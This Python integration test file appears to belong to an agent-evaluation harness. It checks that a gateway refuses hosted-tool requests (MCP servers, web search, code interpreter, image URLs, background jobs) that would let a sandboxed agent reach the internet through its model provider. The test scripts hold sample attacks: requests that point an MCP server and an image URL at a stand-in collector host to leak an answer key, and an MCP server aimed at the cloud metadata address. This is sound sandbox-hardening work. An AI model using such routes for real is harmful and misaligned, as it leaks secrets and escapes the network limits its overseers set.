"""A ``no-network`` trial asks its model provider to reach the internet for it.

The agent (the task's script, in the sandbox, on local, docker and gVisor) asks the
gateway for an MCP server at a URL carrying data, a web search, a code interpreter, chat's
``web_search_options``, an image the provider would fetch from such a URL and a
``background`` response. Judged from outside: the log of the
provider's stand-in on the host's loopback (only the one plain call reached it), the
answers the agent saw (kept by the verifier), and the trial record's ``network_refused``
events, the trial graded and recorded on attempt 1. Each protocol's request shapes are
tests/integration/test_gateway_hosted_tool_shapes.py.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from support.standin import RecordingUpstream


@pytest.fixture
def upstream() -> Iterator[RecordingUpstream]:
    server = RecordingUpstream()
    yield server
    server.close()


ATTACK = r"""
python3 - <<'PY'
import json, os, urllib.error, urllib.request

base, token = os.environ["OPENAI_BASE_URL"], os.environ["OPENAI_API_KEY"]
EXFIL = "https://collector.example.net/mcp?secret=the-answer-key"
asks = [
    ("/responses", {"tools": [{"type": "mcp", "server_label": "x", "server_url": EXFIL}]}),
    ("/responses", {"tools": [{"type": "web_search"}]}),
    ("/responses", {"tools": [{"type": "code_interpreter", "container": {"type": "auto"}}]}),
    ("/chat/completions", {"web_search_options": {}}),
    ("/chat/completions", {"messages": [{"role": "user", "content": [
        {"type": "image_url", "image_url": {"url": EXFIL}}]}]}),
    ("/responses", {"background": True}),
    ("/responses", {}),
]
seen = []
for path, extra in asks:
    body = {"model": "x", "input": "hi", "messages": [{"role": "user", "content": "hi"}], **extra}
    request = urllib.request.Request(
        base + path, data=json.dumps(body).encode(),
        headers={"authorization": "Bearer " + token, "content-type": "application/json"},
    )
    try:
        with urllib.request.urlopen(request, timeout=60) as answer:
            seen.append(answer.status)
    except urllib.error.HTTPError as error:
        seen.append(error.code)
with open(os.path.join(os.environ["HARNESS_WORKSPACE"], "seen.json"), "w") as fh:
    json.dump(seen, fh)
PY
"""

SHOW = 'cat "$HARNESS_WORKSPACE/seen.json"; echo; echo 1 > "$HARNESS_VERIFIER_DIR/reward.txt"\n'


def test_a_no_network_trial_gets_no_hosted_tool_and_its_record_says_so(
    backend: str, any_cli: Any, sec: Any, upstream: RecordingUpstream, tmp_path: Path
) -> None:
    name = sec.unique("gw-hosted")
    task = sec.write_task(tmp_path / "tasks", name, attack=ATTACK, test_sh=SHOW, agent_timeout=120)
    # allow_internet = false: every phase of the task is declared no-network.
    assert "allow_internet = false" in (task / "task.toml").read_text()
    env = {
        "OPENAI_BASE_URL": f"http://127.0.0.1:{upstream.port}/v1",
        "OPENAI_API_KEY": "sk-standin-key",
    }
    run = any_cli.run([task], env=env, timeout=400, extra=["--model", "openai/gpt-4o-mini"])
    record = run.by_task(name)
    assert record["status"] == "completed", run
    assert record["attempt"] == 1, record
    stdout = (run.evidence(record) / "verifier" / "test-stdout.txt").read_text()
    assert json.loads(stdout.splitlines()[0]) == [400] * 6 + [200]
    # The upstream's own log: the one plain call, nothing of the hosted tools or background.
    seen = upstream.log()
    assert len(seen) == 1 and "tools" not in seen[0]["body"], seen
    assert "background" not in seen[0]["body"]
    refused = [e for e in record["events"] if e.get("protocol") == "model_tool"]
    assert [e["tool"] for e in refused] == ["mcp", "web_search", "code_interpreter",
                                            "web_search_options", "image_url"], refused  # fmt: skip
    assert all(e["type"] == "network_refused" and e["policy"] == "no-network" for e in refused)
    assert refused[0]["host"] == refused[-1]["host"] == "collector.example.net"


PUBLIC_ATTACK = r"""
python3 - <<'PY'
import json, os, urllib.error, urllib.request

base, token = os.environ["OPENAI_BASE_URL"], os.environ["OPENAI_API_KEY"]
asks = [
    {"tools": [{"type": "web_search"}]},
    {"tools": [{"type": "mcp", "server_label": "x", "server_url": "http://169.254.169.254/"}]},
    {"background": True},
]
seen = []
for extra in asks:
    request = urllib.request.Request(
        base + "/responses", data=json.dumps({"model": "x", "input": "hi", **extra}).encode(),
        headers={"authorization": "Bearer " + token, "content-type": "application/json"},
    )
    try:
        with urllib.request.urlopen(request, timeout=60) as answer:
            seen.append(answer.status)
    except urllib.error.HTTPError as error:
        seen.append(error.code)
with open(os.path.join(os.environ["HARNESS_WORKSPACE"], "seen.json"), "w") as fh:
    json.dump(seen, fh)
PY
"""


@pytest.mark.docker
def test_a_public_trial_keeps_web_search_but_no_mcp_server_at_the_metadata_address(
    cli: Any, sec: Any, upstream: RecordingUpstream, tmp_path: Path
) -> None:
    name = sec.unique("gw-hosted-public")
    task = sec.write_task(
        tmp_path / "tasks",
        name,
        attack=PUBLIC_ATTACK,
        test_sh=SHOW,
        agent_timeout=120,
        allow_internet=True,
    )
    env = {
        "OPENAI_BASE_URL": f"http://127.0.0.1:{upstream.port}/v1",
        "OPENAI_API_KEY": "sk-standin-key",
    }
    run = cli.run([task], env=env, timeout=400, extra=["--model", "openai/gpt-4o-mini"])
    record = run.by_task(name)
    assert record["status"] == "completed", run
    assert record["posture"]["network"]["mode"] == "public", record["posture"]
    stdout = (run.evidence(record) / "verifier" / "test-stdout.txt").read_text()
    # The gateway was told the phase is public (an access opened without a policy is
    # no-network, which would refuse the search as well).
    assert json.loads(stdout.splitlines()[0]) == [200, 400, 400]
    assert [s["body"].get("tools") for s in upstream.log()] == [[{"type": "web_search"}]]
    refused = [e for e in record["events"] if e.get("protocol") == "model_tool"]
    assert [(e["tool"], e["policy"], e["host"]) for e in refused] == [
        ("mcp", "public", "169.254.169.254")
    ]


STEP_ASK = r"""#!/bin/bash
python3 - <<'PY'
import json, os, urllib.error, urllib.request

body = {"model": "x", "input": "hi", "tools": [{"type": "web_search"}]}
request = urllib.request.Request(
    os.environ["OPENAI_BASE_URL"] + "/responses", data=json.dumps(body).encode(),
    headers={"authorization": "Bearer " + os.environ["OPENAI_API_KEY"],
             "content-type": "application/json"},
)
try:
    with urllib.request.urlopen(request, timeout=60) as answer:
        status = answer.status
except urllib.error.HTTPError as error:
    status = error.code
with open(os.path.join(os.environ["HARNESS_WORKSPACE"], "seen-@STEP@.json"), "w") as fh:
    json.dump(status, fh)
PY
"""

STEP_TOML = """[task]
name = "@NAME@"
[agent]
timeout_sec = 120
[verifier]
timeout_sec = 60
[environment]
network_mode = "no-network"
cpus = 1
memory_mb = 512

[[steps]]
name = "one"
[steps.agent]
network_mode = "public"

[[steps]]
name = "two"
"""


@pytest.mark.docker
def test_each_step_of_a_trial_gets_its_own_agent_policy_at_the_gateway(
    cli: Any, sec: Any, upstream: RecordingUpstream, tmp_path: Path
) -> None:
    name = sec.unique("gw-hosted-steps")
    task = tmp_path / "tasks" / name
    for step in ("one", "two"):
        base = task / "steps" / step
        (base / "tests").mkdir(parents=True)
        (base / "instruction.md").write_text(STEP_ASK.replace("@STEP@", step))
        show = f'cat "$HARNESS_WORKSPACE/seen-{step}.json"; echo\n'
        reward = 'echo 1 > "$HARNESS_VERIFIER_DIR/reward.txt"\n'
        (base / "tests" / "test.sh").write_text("#!/bin/bash\n" + show + reward)
    (task / "task.toml").write_text(STEP_TOML.replace("@NAME@", name))
    env = {
        "OPENAI_BASE_URL": f"http://127.0.0.1:{upstream.port}/v1",
        "OPENAI_API_KEY": "sk-standin-key",
    }
    run = cli.run([task], env=env, timeout=500, extra=["--model", "openai/gpt-4o-mini"])
    record = run.by_task(name)
    assert record["status"] == "completed" and record["attempt"] == 1, run
    seen = [
        json.loads((run.evidence(record) / "steps" / step / "verifier" / "test-stdout.txt")
                   .read_text().splitlines()[0])
        for step in ("one", "two")
    ]  # fmt: skip
    # Step one's agent is public: its search goes; step two's is no-network: refused.
    assert seen == [200, 400], seen
    assert len(upstream.log()) == 1
    refused = [e for e in record["events"] if e.get("protocol") == "model_tool"]
    assert [(e["step"], e["policy"], e["tool"]) for e in refused] == [
        ("two", "no-network", "web_search")
    ]
